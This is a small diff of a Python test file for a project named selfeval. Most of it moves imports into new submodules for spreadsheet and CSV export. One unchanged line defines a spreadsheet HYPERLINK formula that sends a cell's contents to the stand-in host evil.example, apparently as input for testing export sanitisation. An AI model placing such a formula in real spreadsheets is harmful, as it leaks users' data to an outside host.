@@ -16,9 +16,9 @@ from decimal import Decimal
 import pytest
 from openpyxl import Workbook, load_workbook
 
-from selfeval.batch import Outcome
-from selfeval.index import write_index
-from selfeval.sheets import csv_bytes, csv_cell, put, workbook_bytes
+from selfeval.batch.index import write_index
+from selfeval.batch.run import Outcome
+from selfeval.views.sheets import csv_bytes, csv_cell, put, workbook_bytes
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
 
